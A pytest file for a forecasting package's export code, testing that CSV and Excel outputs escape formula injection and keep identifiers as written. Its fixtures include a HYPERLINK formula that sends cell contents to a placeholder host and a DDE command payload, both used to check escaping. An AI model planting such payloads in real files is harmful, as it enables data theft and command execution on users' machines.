"""Exports are safe and useful: no cell a spreadsheet evaluates, ids as written, ERP rounding
and level filters."""

from __future__ import annotations

import numpy as np
import openpyxl
import pandas as pd
import pytest
from synthetic import plan_lines

from sopforecast.data.io import read_source
from sopforecast.errors import SopforecastError
from sopforecast.exports import write_table
from sopforecast.planning.fva import fva_by_author
from sopforecast.planning.layouts import ERP_DECIMALS, long_layout, wide_layout, write_plan
from sopforecast.planning.lines import series_keys, summing

INJECTION = '=HYPERLINK("http://x/?"&A1,"open")'
HIERARCHY = ["region/sku"]


@pytest.fixture(scope="module")
def plan():
    bottom = pd.DataFrame(
        [("NA", "00101"), ("NA", "-7"), ("EU", "NULL"), ("-EU", "None")], columns=["region", "sku"]
    )
    bottom["unique_id"] = bottom["region"] + "/" + bottom["sku"]
    S, levels = summing(bottom, HIERARCHY)
    months = pd.date_range("2026-01-01", periods=3, freq="MS")
    values = S.to_numpy() @ np.array(
        [[10.4, 20.5, 30.6], [1.25, 2.5, 3.75], [0.0, 5.0, 7.0], [100.49, 0.5, 1.5]]
    )
    lines = plan_lines(S, levels, values, months)
    first = lines["unique_id"].eq("NA/00101")
    lines.loc[first, "author"] = INJECTION
    lines.loc[lines["unique_id"].eq("NA/-7"), "author"] = "@bob"
    history = pd.DataFrame({"unique_id": ["Total"], "ds": [pd.Timestamp("2025-12-01")], "y": [1.0]})
    return lines, series_keys(bottom, HIERARCHY), history


def _formula_cells(path) -> list:
    wb = openpyxl.load_workbook(path)
    return [
        (ws.title, c.coordinate, c.value)
        for ws in wb.worksheets
        for r in ws.iter_rows()
        for c in r
        if c.data_type == "f"
    ]


def _text_cells(path) -> list[str]:
    wb = openpyxl.load_workbook(path)
    return [c.value for ws in wb.worksheets for r in ws.iter_rows() for c in r if isinstance(c.value, str)]


@pytest.mark.parametrize("layout", ["long", "wide"])
def test_csv_and_xlsx_plan_exports_neutralise_text(tmp_path, plan, layout):
    lines, keys, _ = plan
    csv = write_plan(lines, tmp_path / "plan.csv", layout=layout, keys=keys)
    raw = pd.read_csv(csv, dtype=str, keep_default_na=False)
    cells = raw.to_numpy().ravel().tolist()
    assert "'-EU/None" in cells and "-EU/None" not in cells
    assert ("'-7" in cells) == (layout == "wide") and "-7" not in cells  # a key column of wide
    if layout == "long":
        assert "'" + INJECTION in cells and "'@bob" in cells
    assert not [
        c
        for c in cells
        if c.startswith(("=", "+", "@", "\t", "\r")) or (c.startswith("-") and not _number(c))
    ]
    # ids stay as written when read as text
    assert {"NA/00101", "EU/NULL", "NA", "EU"} <= set(raw["unique_id"])

    xlsx = write_plan(
        lines, tmp_path / "plan.xlsx", layout=layout, keys=keys, meta={"name": "=cmd|' /C calc'!A0"}
    )
    assert _formula_cells(xlsx) == []
    texts = _text_cells(xlsx)
    assert "'-EU/None" in texts and "'=cmd|' /C calc'!A0" in texts
    back = pd.read_excel(xlsx, sheet_name="Plan", dtype=str, keep_default_na=False)
    assert {"NA/00101", "EU/NULL", "NA"} <= set(back["unique_id"])


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_planner_workbook_has_no_injected_formula(tmp_path, plan):
    lines, keys, history = plan
    meta = {"plan": INJECTION, "name": "+2026-01 v1", "revision": 1}
    book = write_plan(lines, tmp_path / "plan.xlsx", layout="planner", keys=keys, history=history, meta=meta)
    formulas = _formula_cells(book)
    assert formulas and all(
        t == "Plan" and v.startswith("=") and "HYPERLINK" not in v for t, _, v in formulas
    )
    wb = openpyxl.load_workbook(book)
    readme = [c.value for c in wb["Read me"]["A"] if c.value]
    assert f"'plan: {INJECTION}" not in readme and f"plan: {INJECTION}" in readme  # starts with "plan"
    plan_texts = [c.value for r in wb["Plan"].iter_rows() for c in r if isinstance(c.value, str)]
    assert "'-EU/None" in plan_texts and "'-7" in plan_texts and "-EU/None" not in plan_texts
    from sopforecast.planning.workbook import read_workbook_export

    got, _ = read_workbook_export(book)
    assert got["plan"] == INJECTION and got["name"] == "+2026-01 v1"  # kept exactly, typed as text


def test_fva_and_finance_tables_through_write_table(tmp_path):
    table = pd.DataFrame(
        {"author": [INJECTION, "-x", "ann"], "level": ["Total"] * 3, "fva": [-0.5, 0.1, 0.0]}
    )
    csv = write_table(table, tmp_path / "fva.csv")
    raw = pd.read_csv(csv, dtype=str, keep_default_na=False)
    assert raw["author"].tolist() == ["'" + INJECTION, "'-x", "ann"]
    assert raw["fva"].tolist() == ["-0.5", "0.1", "0.0"]  # numbers stay numbers
    xlsx = write_table(table, tmp_path / "fva.xlsx")
    assert _formula_cells(xlsx) == []
    assert pd.read_excel(xlsx)["fva"].tolist() == [-0.5, 0.1, 0.0]


def test_fva_by_author_table_exported_safely(tmp_path):
    plans = pd.DataFrame(
        {
            "unique_id": ["A", "A"],
            "level": ["series", "series"],
            "ds": pd.to_datetime(["2026-01-01", "2026-02-01"]),
            "version_id": [1, 1],
            "naive": [1.0, 1.0],
            "statistical": [2.0, 2.0],
            "final": [3.0, 3.0],
            "author": [INJECTION, None],
        }
    )
    actual = pd.DataFrame({"unique_id": ["A", "A"], "ds": plans["ds"], "y": [2.5, 2.5]})
    table = fva_by_author(plans, actual, None)
    path = write_table(table, tmp_path / "authors.csv")
    assert "'" + INJECTION in pd.read_csv(path, dtype=str)["author"].tolist()


def test_wide_layout_rounds_for_erp_and_filters_levels(tmp_path, plan):
    lines, keys, _ = plan
    assert ERP_DECIMALS == 0
    full = wide_layout(lines, keys)
    whole = wide_layout(lines, keys, decimals=0)
    assert str(whole["2026-01"].dtype) == "Int64"
    row = whole.set_index("unique_id").loc["-EU/None"]
    assert row["2026-01"] == 100 and row["2026-02"] == 0  # 100.49 and 0.5 (to even)
    assert full.set_index("unique_id").loc["-EU/None", "2026-01"] == pytest.approx(100.49)
    two = wide_layout(lines, keys, decimals=2)
    assert two.set_index("unique_id").loc["NA/-7", "2026-01"] == 1.25
    bottom = wide_layout(lines, keys, decimals=0, levels=["region/sku"])
    assert sorted(bottom["unique_id"]) == ["-EU/None", "EU/NULL", "NA/-7", "NA/00101"]
    csv = write_plan(lines, tmp_path / "erp.csv", layout="wide", keys=keys, decimals=0, levels=["region/sku"])
    text = csv.read_text().splitlines()
    assert text[0] == "unique_id,level,region,sku,2026-01,2026-02,2026-03"
    assert (
        "'-EU/None,region/sku,'-EU,None,100,0,2" in text and "NA/00101,region/sku,NA,00101,10,20,31" in text
    )
    assert len(long_layout(lines, levels=["Total"])) == 3
    with pytest.raises(SopforecastError, match=r"level\(s\) \['sku'\] not in the plan; choose from"):
        wide_layout(lines, keys, levels=["sku"])
    with pytest.raises(SopforecastError, match="decimals must be a whole number"):
        wide_layout(lines, keys, decimals=-1)
    with pytest.raises(SopforecastError, match="planner workbook has every level"):
        write_plan(lines, tmp_path / "p.xlsx", layout="planner", keys=keys, history=plan[2], decimals=0)


def test_reading_as_text_keeps_ids_and_reads_utf16(tmp_path):
    frame = pd.DataFrame({"key": ["00101", "NA", "NULL", "None", "1e5"], "value": ["1", "2", "", "3", "4"]})
    path = tmp_path / "ids.csv"
    frame.to_csv(path, index=False, encoding="utf-16")
    got = read_source(path, as_text=True)
    assert got["key"].tolist() == ["00101", "NA", "NULL", "None", "1e5"]
    assert got["value"].tolist() == ["1", "2", "", "3", "4"]
    xlsx = tmp_path / "ids.xlsx"
    frame.to_excel(xlsx, index=False)
    assert read_source(xlsx, as_text=True)["key"].tolist() == ["00101", "NA", "NULL", "None", "1e5"]


def test_price_and_budget_files_keep_ids_as_written(tmp_path):
    from sopforecast.planning.finance import read_budget, read_prices

    prices = tmp_path / "prices.csv"
    prices.write_text("unique_id,price,unit_cost\n00101,2.5,\nNA,3,1\nNULL,4,\n")
    got = read_prices(prices, ["sku"])
    assert got["unique_id"].tolist() == ["00101", "NA", "NULL"]
    assert got["price"].tolist() == [2.5, 3.0, 4.0] and got["unit_cost"].isna().tolist() == [
        True,
        False,
        True,
    ]
    budget = tmp_path / "budget.csv"
    budget.write_text("key,month,units\nNA,2026-01,10\nNone,2026-01,5\n0101,2026-02,\n")
    with pytest.raises(SopforecastError, match=r"'units' must be a number:\n  row 3: units="):
        read_budget(budget)
    budget.write_text("key,month,units\nNA,2026-01,10\nNone,2026-01,5\n0101,2026-02,1\n")
    assert read_budget(budget)["key"].tolist() == ["NA", "None", "0101"]
